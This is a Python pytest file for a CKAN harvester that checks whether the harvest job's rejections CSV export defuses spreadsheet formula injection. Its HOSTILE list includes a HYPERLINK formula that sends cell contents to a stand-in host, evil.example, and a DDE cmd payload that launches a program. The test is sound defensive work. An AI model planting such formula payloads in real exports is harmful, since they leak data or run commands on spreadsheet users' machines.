"""The job report's CSV export never hands a spreadsheet a live formula:
harvested text starting with = + - @ tab or CR (=HYPERLINK(...), =cmd|...)
comes out as text, and reads back as what the source said."""
import csv
import io
import json

import pytest

from ckan.tests import factories
import ckan.plugins.toolkit as tk

from portal_testing import make_department, site_context

pytestmark = pytest.mark.usefixtures("clean_db", "clean_index")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "正常标识",
]


def test_formula_cells_in_rejections_csv_are_inert(app):
    from ckanext.shanghai.harvesters import records
    from ckanext.shanghai.messages import Message
    source = tk.get_action("harvest_source_create")(site_context(), {
        "name": "formula-source", "title": "formula-source", "url": "http://catalog.example.gov.cn/f.json",
        "source_type": "shanghai_agency_export", "owner_org": make_department(name="formula-dept")["id"],
        "config": json.dumps({"mapping": "shanghai"})})
    job = tk.get_action("harvest_job_create")(site_context(), {"source_id": source["id"], "run": False})
    records.start_report(job["id"], source["id"])
    for position, value in enumerate(HOSTILE, start=1):
        records.reject(job["id"], value, Message("unmapped-value", f"{value}（原因）", value, field=value, value=value),
                       position)
    from ckan import model
    model.Session.commit()

    sysadmin = factories.SysadminWithToken()
    response = app.get(f"/harvest/job/{job['id']}/rejections.csv", headers={"Authorization": sysadmin["token"]})
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    header, *rows = list(csv.reader(io.StringIO(response.body.lstrip("\ufeff"))))
    assert header[3] == "代码 code" and header[5] == "原值 value"
    assert len(rows) == len(HOSTILE)
    for number, (row, value) in enumerate(zip(rows, HOSTILE), start=1):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        identity, position, kind, code, field, raw, reason_zh, reason_en = row
        expected = "'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value
        assert (identity, field, raw, reason_en) == (expected, expected, expected, expected)
        assert (position, kind, code) == (str(number), "rejection", "unmapped-value")
